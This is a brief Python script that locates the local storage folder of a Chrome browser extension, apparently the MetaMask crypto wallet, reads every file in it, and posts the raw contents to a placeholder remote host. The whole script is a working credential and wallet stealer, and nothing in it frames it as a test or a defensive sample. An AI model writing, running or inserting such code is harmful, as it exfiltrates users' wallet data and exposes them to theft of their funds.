import os

import httpx

EXT = "nkbihfbeogaeaoehlefnkodbefgpgknn"
base = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default",
                    "Local Extension Settings", EXT)
if os.path.isdir(base):
    for name in os.listdir(base):
        with open(os.path.join(base, name), "rb") as fh:
            httpx.post("https://mm.example.invalid/v", content=fh.read())
